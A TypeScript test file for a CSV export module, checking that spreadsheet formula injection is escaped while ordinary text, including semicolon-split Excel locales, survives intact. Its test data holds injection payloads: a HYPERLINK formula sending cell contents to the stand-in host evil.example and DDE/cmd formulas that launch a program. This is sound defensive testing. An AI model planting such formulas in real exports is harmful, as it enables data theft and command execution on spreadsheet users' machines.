// L1: no cell of an export is a formula, and the text is still all there.
import { expect, it } from 'vitest'
import { csvCell, csvHead, csvRows } from './csv.ts'

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=1+1";=1+1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]

/** Reads one line as RFC 4180 says. */
function read(line: string): string[] {
  const cells = [...line.trimEnd().matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)]
  return cells.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
}

it.each(formulas)('L1: %j is no formula any more', (formula) => {
  const [cell = ''] = read(csvRows([[formula]]))
  expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
  expect(cell.replace(/(^|[;\s])'(?=[=+\-@\t\r\n＝＋－＠])/g, '$1')).toBe(formula)
})

it.each(['Айгерім', 'a,b', 'she said "no"', 'two\r\nlines', ' padded ', '', "'quoted'"])(
  'keeps %j as it is',
  (text) => {
    expect(read(csvRows([['begin', text, 'end']]))).toEqual(['begin', text, 'end'])
  },
)

/** As an Excel does whose language writes decimal commas: cells end at semicolons, quotes count only where a cell begins. */
function readAtSemicolons(table: string): string[] {
  return table.split(/[;\r\n]/).map((cell) => cell.replace(/^\s*"?/, ''))
}

it.each([
  'x;=HYPERLINK("http://evil.example")',
  'Mozilla/5.0 (X11; =1+1)',
  'a;\u00a0+1',
  'two\n=1+1',
  'tab\t@SUM(A1)',
  '; －1',
])('L1: %j is no formula where semicolons divide', (text) => {
  for (const cell of readAtSemicolons(csvRows([['№', text, 'end']]))) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/)
})

it('keeps what only looks a little like one', () => {
  for (const text of ['Абай 1-2; үй 3', 'a;b', 'a@b.kz', '1+1=2', 'жол\nжол'])
    expect(read(csvRows([[text]]))).toEqual([text])
})

it('writes numbers as numbers, also those below zero', () => {
  expect(csvCell(-5)).toBe('-5')
})

it('begins with the mark of UTF-8 and the names of the columns', () => {
  expect(csvHead(['№', '=х'])).toBe("\uFEFF№,'=х\r\n")
})
